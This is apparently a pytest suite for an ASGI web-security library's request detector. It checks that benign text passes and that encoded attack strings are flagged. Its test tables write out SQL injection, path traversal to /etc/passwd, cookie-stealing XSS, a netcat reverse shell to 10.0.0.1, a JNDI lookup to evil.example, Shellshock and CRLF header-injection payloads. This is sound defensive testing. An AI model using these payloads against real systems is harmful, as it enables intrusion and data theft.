"""Suspicious-request detection as a pure policy: the audit's D (allow) and E (flag) classes.

Cases from ../shared/cases/detection-audit.md, each tested as a class: several members, in
the encodings and places a client can use. The detector is sans-IO, so these tables call it
directly; tests/test_observe.py and tests/test_observe_wire.py drive the same cases through
the middleware and over the wire.
"""

from __future__ import annotations

import time
from datetime import datetime
from urllib.parse import quote

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from asgisec import SecurityConfig
from asgisec.config_observe import DetectionConfig
from asgisec.detection import CATEGORIES, Detector, Finding
from asgisec.detection.decode import normalise, split_query
from asgisec.detection.detector import _PLAIN
from asgisec.detection.rules import RULES, SCANNER_RE, SCANNERS, check_pattern, scanner_in
from asgisec.errors import ConfigError

DETECTOR = Detector()


def query(value: str, name: str = "q", encode: str = "percent") -> Finding | None:
    if encode == "percent":
        text = quote(value, safe="")
    elif encode == "plus":
        text = quote(value, safe="").replace("%20", "+")
    else:
        text = value
    return DETECTOR.scan("/api/search", b"/api/search", f"{name}={text}".encode(), None)


def agent(value: str) -> Finding | None:
    return DETECTOR.scan("/", b"/", b"", value.encode())


def path(decoded: str, raw: str | None = None) -> Finding | None:
    return DETECTOR.scan(decoded, (raw or decoded).encode(), b"", None)


# --------------------------------------------------------------------------- D: allow

D_VALUES = {
    "D1-obrien": "O'Brien",
    "D1-conan": "Conan O'Brien's",
    "D1-bob": "yes, bob's",
    "D1-dangelo": "D'Angelo",
    "D1-rocknroll": "rock 'n' roll",
    "D2-select-plan": "select a plan",
    "D2-medicare": "4. Select Medicare Plan Appeals and Grievances form online",
    "D2-union": "the union selected a new president",
    "D2-drop": "how to drop a table in excel",
    "D2-select-one": "choose a size (select one)",
    "D5-yahoo": "Yahoo! (Y!)",
    "D12-report": "report..final.pdf",
    "D12-wait": "wait... what",
    "prose-and-more": "milk & eggs & more",
    "prose-between": "price between 10 and 20",
    "prose-quote-dash": 'he said "hi" -- then left',
}


@pytest.mark.parametrize("encode", ["percent", "plus", "plain"])
@pytest.mark.parametrize("value", list(D_VALUES.values()), ids=list(D_VALUES))
def test_d_values_are_allowed_in_any_encoding(value: str, encode: str) -> None:
    if encode == "plain" and any(c in value for c in "&#% "):
        encode = "plus"  # a raw '&' or '#' would not reach the server as one value
    assert query(value, encode=encode) is None


@pytest.mark.parametrize("value", list(D_VALUES.values()), ids=list(D_VALUES))
def test_d_values_are_allowed_in_json_and_form_bodies(value: str) -> None:
    body = msgspec.json.encode({"comment": value})
    assert DETECTOR.scan_body("/api/items", b"application/json", body) is None
    form = b"comment=" + quote(value, safe="").encode()
    assert DETECTOR.scan_body("/api/items", b"application/x-www-form-urlencoded", form) is None


@pytest.mark.parametrize(
    "decoded", ["/get/foo../1234", "/get/..foo", "/files/report..final.pdf", "/a/...b/c"]
)
def test_d12_dots_that_are_not_traversal(decoded: str) -> None:
    assert path(decoded) is None


@pytest.mark.parametrize(
    "ua",
    [
        "Mastodon/4.5.11 (http.rb/5.3.1; +https://veganism.social/)",  # D10: not "vega"
        "python-requests/2.32.3",  # D11
        "curl/8.5.0",
        "urlgrabber/3.10 yum/3.4.3",
        "Wget/1.21.4",
        "Go-http-client/1.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 4.0.3; ja-jp; SH-01D Build/IML74K) AppleWebKit/534.30",
    ],
)
def test_d10_d11_ordinary_user_agents_pass(ua: str) -> None:
    assert agent(ua) is None


def test_d8_rich_text_is_flagged_by_default_and_exemptible_per_route() -> None:
    html = '<p dir="ltr" style="text-align: left;"><strong>Test</strong></p>'
    body = msgspec.json.encode({"content": html})
    finding = DETECTOR.scan_body("/api/posts/7", b"application/json", body)
    assert finding is not None
    assert finding.category == "xss"
    exempt = Detector(exemptions="/api/posts/*=xss")
    assert exempt.scan_body("/api/posts/7", b"application/json", body) is None
    # Only that route, and only that category.
    assert exempt.scan_body("/api/comments/7", b"application/json", body) is not None
    sqli = msgspec.json.encode({"content": "' UNION SELECT password FROM users--"})
    assert exempt.scan_body("/api/posts/7", b"application/json", sqli) is not None


# --------------------------------------------------------------------------- E: flag


def _category(finding: Finding | None) -> str | None:
    return None if finding is None else finding.category


def test_e1_encoded_query_is_decoded_before_matching() -> None:
    finding = DETECTOR.scan("/", b"/", b"id=%27%20OR%201%3D1--", None)
    assert _category(finding) == "sqli"
    assert _category(DETECTOR.scan("/", b"/", b"id=%27+OR+1%3D1--", None)) == "sqli"


@pytest.mark.parametrize(
    ("qs", "category"),
    [
        (b"id=%2527%2520OR%25201%253D1--", "sqli"),
        (b"f=%252e%252e%252fetc%252fpasswd", "traversal"),
        (b"file=..%252f..%252fetc%252fpasswd", "traversal"),
        (b"q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "xss"),
        (b"x=%25252525252e", "evasion"),  # still encoded after three rounds
    ],
)
def test_e2_double_and_deeper_encoding(qs: bytes, category: str) -> None:
    assert _category(DETECTOR.scan("/", b"/", qs, None)) == category


@pytest.mark.parametrize(
    "value",
    [
        "1 UnIoN SeLeCt 1,2",
        "1/**/UNION/**/SELECT/**/1",
        "' ||(select 1)||'",
        "1' /*!50000union*/ /*!50000select*/ 1,2-- -",
        "1 union\nall\tselect null",
        "' oR '1'='1",
    ],
)
def test_e3_case_comment_and_whitespace_variants(value: str) -> None:
    assert _category(query(value)) == "sqli"


@pytest.mark.parametrize(
    ("decoded", "raw"),
    [
        ("/static/../../etc/passwd", "/static/..%2f..%2fetc/passwd"),
        ("/static/..%2f..%2fetc/passwd", "/static/..%252f..%252fetc/passwd"),
        ("/files/..\\..\\windows\\win.ini", "/files/..%5c..%5cwindows%5cwin.ini"),
        ("/a/\u00c0\u00ae", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),  # overlong UTF-8
        ("/a/b", "/a/%uff0e%uff0e/%uff0e%uff0e/etc/hosts"),  # IIS %u, full-width dots
    ],
)
def test_e4_path_and_raw_path_are_both_checked(decoded: str, raw: str) -> None:
    assert _category(path(decoded, raw)) == "traversal"


@pytest.mark.parametrize("decoded", ["/..;/admin", "/app/..;/manager/html", "/a;/..;/b"])
def test_e6_path_parameter_traversal(decoded: str) -> None:
    assert _category(path(decoded)) == "traversal"


@pytest.mark.parametrize(
    "qs",
    [
        b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        b"q=<ScRiPt>alert(1)</sCrIpT>",
        b"q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",  # HTML entities
        b"q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",  # full-width < and > (NFKC)
        b"next=javascript:alert(document.cookie)",
        b"q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
    ],
)
def test_e8_encoded_and_mixed_case_xss(qs: bytes) -> None:
    assert _category(DETECTOR.scan("/", b"/", qs, None)) == "xss"


@pytest.mark.parametrize(
    ("ua", "tool"),
    [
        ("sqlmap/1.8.2#stable (https://sqlmap.org)", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "nikto"),
        ("SQLMap", "sqlmap"),
        ("sQlMaP/1.7", "sqlmap"),
        ("Mozilla/5.0 (compatible; Vega/1.0)", "vega"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"),
        ("Fuzz Faster U Fool v2.1.0-dev", "fuzz faster u fool"),
    ],
)
def test_e11_scanner_user_agents_any_case(ua: str, tool: str) -> None:
    finding = agent(ua)
    assert finding is not None
    assert finding.category == "scanner"
    assert finding.reason == f"Suspicious user-agent: {tool}"


def test_e12_random_agent_is_caught_by_the_payload_not_the_agent() -> None:
    browser = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
    finding = DETECTOR.scan("/item", b"/item", b"id=1%27%20AND%20SLEEP(5)--", browser.encode())
    assert _category(finding) == "sqli"
    assert agent(browser) is None


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("127.0.0.1; cat /etc/passwd", "traversal"),  # the file probe is found first
        ("127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444", "cmdi"),
        ("x`whoami`", "cmdi"),
        ("x$(id)", "cmdi"),
        ("${jndi:ldap://evil.example/a}", "cmdi"),
        ("() { :; }; echo pwned", "cmdi"),
        ("en\r\nSet-Cookie: admin=1", "crlf"),
        ("x\u560a\u560dLocation: https://evil.example", "crlf"),
    ],
)
def test_other_categories(value: str, category: str) -> None:
    assert _category(query(value)) == category


def test_reason_names_the_place_but_never_the_value() -> None:
    finding = query("' OR 1=1--", name="user_id")
    assert finding is not None
    assert finding.reason == "SQL injection in query parameter 'user_id'"
    odd = query("' OR 1=1--", name="<b>")
    assert odd is not None
    assert odd.reason == "SQL injection in query parameter"  # an odd name is left out


# --------------------------------------------------------------------------- bodies, config


def test_json_keys_and_nested_values_are_scanned_within_bounds() -> None:
    nested = {"a": [{"b": {"c": ["fine", "<script>alert(1)</script>"]}}]}
    found = DETECTOR.scan_body("/", b"application/json; charset=utf-8", msgspec.json.encode(nested))
    assert _category(found) == "xss"
    assert found is not None
    assert found.reason == "Cross-site scripting in JSON field 'c'"
    key = msgspec.json.encode({"' OR 1=1--": 1})
    assert _category(DETECTOR.scan_body("/", b"application/vnd.api+json", key)) == "sqli"
    assert DETECTOR.scan_body("/", b"application/json", b"{not json") is None


def test_only_form_and_json_bodies_within_the_limit_are_wanted() -> None:
    small = Detector(body_limit=100)
    assert small.wants_body(b"application/json", 10)
    assert small.wants_body(b"Application/X-WWW-Form-Urlencoded; charset=utf-8", None)
    assert not small.wants_body(b"application/json", 101)
    assert not small.wants_body(b"multipart/form-data; boundary=x", 10)
    assert not small.wants_body(None, 10)
    assert not Detector(body_limit=0).wants_body(b"application/json", 10)


def test_custom_pattern_and_its_category() -> None:
    custom = Detector(patterns=r"wp-login\.php|xmlrpc\.php")
    finding = custom.scan("/blog/wp-login.php", b"/blog/wp-login.php", b"", None)
    assert finding is not None
    assert (finding.category, finding.reason) == ("custom", "Custom pattern in path")
    assert DETECTOR.scan("/blog/wp-login.php", b"/blog/wp-login.php", b"", None) is None


def test_exempt_all_and_unknown_categories() -> None:
    everything = Detector(exemptions="/hooks/**=all")
    assert everything.scan("/hooks/github", b"/hooks/github", b"q=%27%20OR%201%3D1--", None) is None
    assert everything.scan("/api", b"/api", b"q=%27%20OR%201%3D1--", None) is not None
    with pytest.raises(ConfigError, match="SUSPICIOUS_EXEMPTIONS"):
        SecurityConfig.from_env({"SUSPICIOUS_EXEMPTIONS": "/x=nonsense"}, env_file=None)
    with pytest.raises(ConfigError, match="SUSPICIOUS_EXEMPTIONS"):
        SecurityConfig.from_env({"SUSPICIOUS_EXEMPTIONS": "nopath=xss"}, env_file=None)


@pytest.mark.parametrize(
    "pattern", ["(a+)+", r"(\w*,)*$", "(x{1,}y?)+", r"(a)\1", "([a-z]+)*@", "(?:a*b*)*"]
)
def test_custom_patterns_that_could_backtrack_are_refused_at_start_up(pattern: str) -> None:
    with pytest.raises(ValueError, match=r"repet|back-ref"):
        check_pattern(pattern)
    with pytest.raises(ConfigError, match="SUSPICIOUS_PATTERNS"):
        SecurityConfig.from_env({"SUSPICIOUS_PATTERNS": pattern}, env_file=None)
    with pytest.raises(ConfigError):
        DetectionConfig(suspicious_patterns=pattern)


def test_built_in_rules_pass_their_own_backtracking_check() -> None:
    for rule in RULES:
        check_pattern(rule.pattern.pattern)
    check_pattern(SCANNER_RE.pattern)
    assert {rule.category for rule in RULES} <= set(CATEGORIES)


def test_rules_stay_linear_on_hostile_lengths() -> None:
    """Long near-misses for every rule finish; a backtracking rule would not (bounded run)."""
    hostile = [
        "<a " + "x" * 20_000,
        "'" + " or" * 5_000,
        "select " + "a, " * 5_000,
        "/.." * 5_000 + "x",
        ";" * 20_000,
        "concat(" + "(" * 10_000,
        "{{" + "a" * 20_000,
    ]
    started = time.monotonic()
    for text in hostile:
        DETECTOR.scan("/", b"/", b"q=" + quote(text).encode(), None)
    assert time.monotonic() - started < 30  # seconds: catastrophic backtracking takes hours


def _fastest(runs: int, scan: object, *args: object) -> float:
    """The fastest of ``runs`` timings: noise from a loaded machine only ever adds time."""
    best = float("inf")
    for _ in range(runs):
        started = time.perf_counter()
        scan(*args)  # type: ignore[operator]
        best = min(best, time.perf_counter() - started)
    return best


@pytest.mark.parametrize(
    "motif", ["\r\n", "\n", "<a ", "'or'", "<<", "' or ", "/*", "`", "${", "..\\"]
)
def test_rules_stay_linear_on_repeated_motifs(motif: str) -> None:
    """A body of one motif repeated: eight times the length must cost about eight times the
    time, not sixty-four (a rule like ``[\\r\\n]{2,}\\s{0,5}<`` is quadratic in a run of line
    breaks: 64 KiB of them held the event loop for minutes). The bound is a ratio of
    best-of-five timings, so a loaded machine does not decide it."""

    def body(size: int) -> bytes:
        return msgspec.json.encode({"comment": (motif * (size // len(motif) + 1))[:size]})

    small, large = body(1_000), body(8_000)
    kind = b"application/json"
    short = _fastest(5, DETECTOR.scan_body, "/", kind, small)
    long = _fastest(5, DETECTOR.scan_body, "/", kind, large)
    # eight times the text: linear is ~8x, quadratic ~64x; under 2 ms is no measurement
    assert long < 24 * max(short, 2e-3), (motif, short, long)


@pytest.mark.parametrize("depth", [100, 10_000, 30_000])
def test_a_deeply_nested_json_body_is_no_error(depth: int) -> None:
    """msgspec raises RecursionError on a nesting bomb; the detector must not pass it on (it
    reached the server as a 500). A bomb small enough to scan is simply not judged."""
    for opener, closer in ((b"[", b"]"), (b'{"a":', b"}")):
        body = opener * depth + b"1" + closer * depth
        DETECTOR.scan_body("/", b"application/json", body)


# --------------------------------------------------------------------------- totality


@given(st.text(max_size=300), st.booleans())
def test_normalise_is_total(text: str, plus: bool) -> None:
    decoded = normalise(text, plus=plus)
    assert isinstance(decoded.text, str)
    assert isinstance(decoded.overencoded, bool)


@given(st.binary(max_size=300), st.binary(max_size=300), st.binary(max_size=100))
def test_scan_is_total(raw: bytes, qs: bytes, ua: bytes) -> None:
    text = raw.decode("latin-1")
    result = DETECTOR.scan(text, raw, qs, ua, ua)
    assert result is None or result.category in CATEGORIES


@given(st.binary(max_size=300))
def test_scan_body_is_total(body: bytes) -> None:
    for kind in (b"application/json", b"application/x-www-form-urlencoded"):
        result = DETECTOR.scan_body("/", kind, body)
        assert result is None or result.category in CATEGORIES


def test_split_query_keeps_encoding_and_blank_values() -> None:
    assert split_query("a=1&b=&c&&d=%27") == [("a", "1"), ("b", ""), ("c", ""), ("d", "%27")]


# --------------------------------------------------------------------------- gates


def _ungated() -> Detector:
    """The same detector with every gate open: what the gates must never change."""
    import re

    from asgisec.detection.rules import Rule

    detector = Detector()
    rules = []
    for rule in RULES:
        copy = object.__new__(Rule)
        copy.category, copy.reason, copy.pattern = rule.category, rule.reason, rule.pattern
        copy.gate = re.compile("")
        rules.append(copy)
    detector.rules = tuple(rules)
    return detector


UNGATED = _ungated()


def _same(value: str) -> None:
    qs = b"q=" + quote(value, safe="").encode()
    gated, ungated = DETECTOR.scan("/", b"/", qs, None), UNGATED.scan("/", b"/", qs, None)
    assert _category(gated) == _category(ungated), value
    raw = quote(value, safe="/").encode()
    gated = DETECTOR.scan("/" + value, b"/" + raw, b"", None)
    assert _category(gated) == _category(UNGATED.scan("/" + value, b"/" + raw, b"", None)), value


def test_gates_change_no_verdict_on_the_corpus() -> None:
    from tests.corpus.samples import ATTACKS, BENIGN

    for sample in [*ATTACKS, *BENIGN]:
        _same(sample.value)


PIECES = st.sampled_from(
    [
        "'", '"', "`", ";", "(", ")", "=", "<", ">", "@", "#", "|", "&", "-", "/", "\\", ":",
        "{", "}", "$", "*", "%", ".", "..", "\n", "\r", "\x00", " ", "1", "a", "x", "or",
        "and", "union", "select", "from", "sleep", "script", "img", "onerror", "alert",
        "javascript", "etc", "passwd", "proc", "self", "bin", "sh", "cat", "id", "ls",
        "jndi", "ifs", "set-cookie", "order by", "having", "case when", "then", "true",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("".join))
def test_gates_change_no_verdict_on_generated_text(value: str) -> None:
    _same(value)


AGENT_PIECES = st.one_of(
    st.sampled_from(
        [
            *SCANNERS,
            *(name.upper() for name in SCANNERS),
            "Mozilla/5.0",
            " ",
            "/",
            "-",
            "(",
            ";",
            "1.7",
            "x",
            "\xe9",
            "\xc0",
        ]
    ),
    st.binary(max_size=4).map(lambda raw: raw.decode("latin-1")),
)


@given(st.lists(AGENT_PIECES, max_size=8).map("".join))
def test_the_scanner_token_gate_changes_no_verdict(agent: str) -> None:
    """``scanner_in`` asks a token test before the fifty-name alternation: it must name the
    same scanner as the alternation alone, for any bytes, any case, any separators."""
    raw = agent.encode("latin-1")
    match = SCANNER_RE.search(raw.decode("latin-1").lower())
    assert scanner_in(raw) == (None if match is None else match.group(1))


@given(
    st.datetimes(),
    st.sampled_from(["T", "t", " "]),
    st.sampled_from(["auto", "seconds", "milliseconds", "microseconds", "minutes"]),
    st.sampled_from(["", "Z", "z", "+02:00", "-0530"]),
)
def test_iso_date_times_are_plain_because_no_rule_can_match_them(
    moment: datetime, sep: str, timespec: str, zone: str
) -> None:
    """JSON values such as ``2024-06-21T12:00:00Z`` are skipped without decoding or matching:
    sound only if no rule (ungated) matches any of them."""
    text = moment.isoformat(sep=sep, timespec=timespec) + zone
    assert _PLAIN.fullmatch(text), text
    assert UNGATED._match(text, None, decode=True, plus=False) is None, text


@settings(max_examples=25, deadline=None)
@given(st.lists(PIECES, min_size=1, max_size=4).map("".join), st.sampled_from(["body", "query"]))
def test_work_per_byte_is_bounded_on_generated_adversarial_text(motif: str, place: str) -> None:
    """Any motif of rule fragments (quotes, keywords, brackets, line breaks, dots...) repeated
    into a long value: eight times the bytes cost about eight times the time, through the
    body scan and through the query string (where values are decoded first). Same bound as
    above: best-of-five timings, so only the growth decides."""

    def text(size: int) -> str:
        return (motif * (size // len(motif) + 1))[:size]

    def scan(size: int) -> float:
        if place == "body":
            body = msgspec.json.encode({"comment": text(size)})
            return _fastest(5, DETECTOR.scan_body, "/", b"application/json", body)
        query = b"q=" + quote(text(size), safe="").encode()
        return _fastest(5, DETECTOR.scan, "/", b"/", query, None)

    short, long = scan(1_000), scan(8_000)
    assert long < 24 * max(short, 2e-3), (motif, place, short, long)
